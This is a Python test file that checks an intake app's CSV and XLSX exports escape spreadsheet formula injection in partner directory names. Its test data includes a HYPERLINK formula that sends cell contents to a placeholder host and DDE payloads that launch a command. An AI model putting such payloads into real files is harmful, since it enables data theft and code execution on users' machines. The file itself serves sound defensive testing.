"""Directory names that try to act in a spreadsheet reach the exports as plain text."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.desk import Desk
from app.directory.demo import DEMO_FOLDER, load_demo
from app.directory.search_index import reindex
from app.intake.contact import ContactDraft
from app.stats.exports import export_tables
from core.cells import FORMULA_STARTS, csv_cell, risky

HTML_NAME = '<h1 style="color:red">Appelez le 08 99 00 00 00</h1>'
# Names a directory may carry, each of which a spreadsheet would run as a formula.
ACTING_NAMES = [
    '=HYPERLINK("http://exemple.invalid/?v="&A1;"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+33 4 90 00 00 00",
    "\t=1+1",
]


def hostile_directory(desk: Desk, tmp_path: Path) -> list[str]:
    """The demo directory with the names of its first structures replaced by hostile
    ones, loaded into ``desk``; returns one service id of each such structure."""
    folder = tmp_path / "demo-hostile"
    shutil.copytree(DEMO_FOLDER, folder)
    structures = json.loads((folder / "structures.json").read_text(encoding="utf-8"))
    services = json.loads((folder / "services.json").read_text(encoding="utf-8"))
    chosen: list[str] = []
    for structure, name in zip(structures, [HTML_NAME, *ACTING_NAMES], strict=False):
        structure["nom"] = name
        chosen.append(next(s["id"] for s in services if s["structure_id"] == structure["id"]))
    (folder / "structures.json").write_text(json.dumps(structures), encoding="utf-8")
    with desk.sessions.begin() as session:
        load_demo(session, folder)
        reindex(session)
    return chosen


def referred(desk: Desk, services: list[str]) -> None:
    for service in services:
        desk.intake.save(
            ContactDraft(
                "sur-place", "salarie", "26-44", "femme", "13047",
                ["trouver-formation"], ["orientation-partenaire"], referrals=[service],
            )
        )  # fmt: skip


def test_partner_names_reach_the_csv_as_text(desk: Desk, tmp_path: Path) -> None:
    referred(desk, hostile_directory(desk, tmp_path))
    day = desk.intake.today()
    path = export_tables(desk, day, day, tmp_path / "partenaires.csv", "csv", ["partner"], 1)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    names = {row[0] for row in rows[1:-1]}
    # Each acting name is there whole, behind the apostrophe that makes it text.
    assert {f"'{name}" for name in ACTING_NAMES} <= names
    assert HTML_NAME in names  # nothing a spreadsheet runs: left as it is
    assert not any(risky(name) for name in names)
    assert rows[-1][0] == "Total" and rows[-1][1] == "6"


def test_partner_names_reach_the_xlsx_as_text_never_as_formulas(desk: Desk, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    referred(desk, hostile_directory(desk, tmp_path))
    day = desk.intake.today()
    path = export_tables(desk, day, day, tmp_path / "rapport.xlsx", "xlsx", ["partner"], 1)
    book = load_workbook(path, data_only=False)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(ACTING_NAMES) <= texts  # the very characters, not a formula's result
    counts = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, int)]
    assert counts and all(isinstance(v, int) for v in counts)


@given(st.text(min_size=1))
def test_a_cell_a_spreadsheet_could_run_always_gets_the_apostrophe(text: str) -> None:
    shown = csv_cell(text)
    if text.lstrip(" \u00a0\u202f\u3000")[:1] in FORMULA_STARTS or text[0] in FORMULA_STARTS:
        assert shown == "'" + text
    else:
        assert shown == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, None, date(2026, 11, 24)])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    assert csv_cell(value) is value
